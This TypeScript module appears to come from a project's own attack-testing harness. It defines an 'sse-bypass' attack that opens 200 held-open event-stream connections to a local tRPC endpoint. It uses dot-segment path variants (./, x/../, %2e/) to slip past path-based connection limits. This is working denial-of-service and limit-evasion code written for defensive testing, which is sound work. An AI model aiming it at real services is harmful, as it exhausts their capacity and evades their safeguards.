import { anonymousSession, boundedAgent, call, startRunAs } from "../http";
import { type Attack, loopUntil } from "./attack";

const HELD = 200;
const CAP = 20_000;
const HEADERS_TIMEOUT_MS = 5_000;

// Spellings of /api/trpc/run.events that reach it once the path is normalised.
const PATHS = ["/api/trpc/./run.events", "/api/trpc/x/../run.events", "/api/trpc/%2e/run.events"];

export const sseBypass: Attack = {
  name: "sse-bypass",
  summary: `${HELD} run.events over HTTP at once via dot-segment paths (./, x/../, %2e/), each held open, for the attacker's own live run`,
  async run(context) {
    const { tally } = context;
    const agent = boundedAgent(HELD);
    let cancel = async () => {};
    try {
      const cookie = await anonymousSession(agent, context.port);
      const { runId } = await startRunAs(agent, context.port, cookie, { stepDelayMs: 60_000 });
      cancel = async () => {
        const body = JSON.stringify({ runId });
        const headers = { cookie, "content-type": "application/json" };
        await call(agent, context.port, {
          method: "POST",
          path: "/api/trpc/run.cancel",
          headers,
          body,
          timeoutMs: 3_000,
        });
      };
      if (!runId) throw new Error("the attacker could not start its own run");
      const input = encodeURIComponent(JSON.stringify({ runId }));
      const windowOver = new Promise<"held">((resolve) =>
        context.signal.addEventListener("abort", () => resolve("held"), { once: true }),
      );
      await loopUntil(context, HELD, CAP, async (i) => {
        tally.sent += 1;
        const { outcome, headers, closed } = await call(agent, context.port, {
          path: `${PATHS[i % PATHS.length]}?input=${input}`,
          headers: { cookie, accept: "text/event-stream" },
          timeoutMs: HEADERS_TIMEOUT_MS,
          holdUntil: context.signal,
        });
        tally.record(outcome);
        if (headers?.["content-type"]?.startsWith("text/event-stream")) tally.count("event streams");
        // Hold the slot while the server keeps the response open; re-send once it ends.
        const held = "status" in outcome && (await Promise.race([closed, windowOver])) === "held";
        if (held) tally.count("held open to the end");
        await closed;
      });
    } finally {
      await cancel(); // the run outlives the attack otherwise, holding an executor slot for minutes
      agent.destroy();
    }
  },
};
